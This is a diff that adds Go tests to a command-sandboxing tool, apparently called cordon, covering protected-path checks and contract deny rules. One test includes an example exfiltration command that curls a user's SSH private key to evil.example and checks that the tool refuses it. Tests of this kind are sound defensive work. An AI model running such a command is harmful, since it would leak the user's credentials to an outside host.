@@ -5,6 +5,7 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
+	"strconv"
 	"strings"
 	"testing"
 
@@ -120,5 +121,42 @@ func checkDiffJSON(t *testing.T, ws, base string) {
 		if !kinds[k] {
 			t.Errorf("no %s change in %s", k, r.stdout)
 		}
+	}
+}
+
+// TestCheckJudgesTheRunPlan: check, explain and run compile one plan with the same
+// inputs, so a contract run refuses (it grants the audit root, a protected path) is
+// one check rejects, for the same reason.
+func TestCheckJudgesTheRunPlan(t *testing.T) {
+	w := newWorld(t)
+	audit := filepath.Join(w.home, "audit")
+	mustMkdir(t, audit)
+	w.env = append(w.env, "CORDON_AUDIT_DIR="+audit)
+	w.contract("version: 1\nfilesystem:\n  readable: [\"@system\", " + strconv.Quote(audit) + "]\n")
+	c := w.cordon("", "check")
+	r := w.cordon("", "run", "--", "true")
+	e := w.cordon("", "explain")
+	if c.code != 1 || r.code != 125 || e.code == 0 {
+		t.Fatalf("check %d, run %d, explain %d; want 1, 125, refused:\ncheck: %v\nrun: %v", c.code, r.code, e.code, c, r)
+	}
+	if !strings.Contains(c.stdout, audit) || !strings.Contains(r.stderr, audit) {
+		t.Fatalf("check and run must name the same reason:\ncheck: %v\nrun: %v", c, r)
+	}
+}
+
+func TestDeniedCommandPattern(t *testing.T) {
+	w := newWorld(t)
+	w.contract("version: 1\ncommands:\n  deny: [\"curl *\", \"git push *\"]\n")
+	r := w.cordon("", "run", "--", "/usr/bin/curl", "https://evil.example", "-d", "@~/.ssh/id_rsa")
+	if r.code != 125 {
+		t.Fatalf("want 125, got %v", r)
+	}
+	if !strings.HasPrefix(r.stderr, `cordon: command denied by contract rule "curl *"`) {
+		t.Errorf("stderr: got %q", r.stderr)
+	}
+	r = w.cordon("", "run", "--", "git", "push", "origin", "main")
+	assertContains(t, "stderr", r.stderr, `rule "git push *"`)
+	if r := w.cordon("", "run", "--", "echo", "curl"); r.code != 0 {
+		t.Errorf("echo curl must not be denied: %v", r)
 	}
 }
